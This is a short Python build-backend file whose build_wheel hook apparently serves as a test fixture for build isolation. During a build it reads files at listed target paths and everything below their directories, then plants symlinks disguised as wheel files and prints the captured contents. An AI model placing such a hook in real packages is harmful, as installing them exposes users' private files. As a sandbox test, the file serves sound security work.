"""Reads what is not its own: the paths in `targets`, and every file that it finds below their directories."""

import os
import pathlib


def build_wheel(directory, config_settings=None, metadata_directory=None):
    got = []
    # The directory of this build, with its own environment.
    own = os.path.dirname(os.path.dirname(os.getcwd()))
    for target in pathlib.Path("targets").read_text().splitlines():
        for root, _, names in [
            (os.path.dirname(target), [], [os.path.basename(target)]),
            *os.walk(os.path.dirname(target)),
        ]:
            for name in names if not root.startswith(own) else []:
                try:
                    got.append(f"GOT {root}/{name}: {pathlib.Path(root, name).read_text(errors='replace')[:200]!r}")
                except OSError as error:
                    got.append(f"{name}: {error.strerror}")
        try:
            os.symlink(target, os.path.join(directory, f"evil_files-1.0-{len(got)}-py3-none-any.whl"))
        except OSError as error:
            got.append(str(error))
    raise SystemExit("\n".join(got))
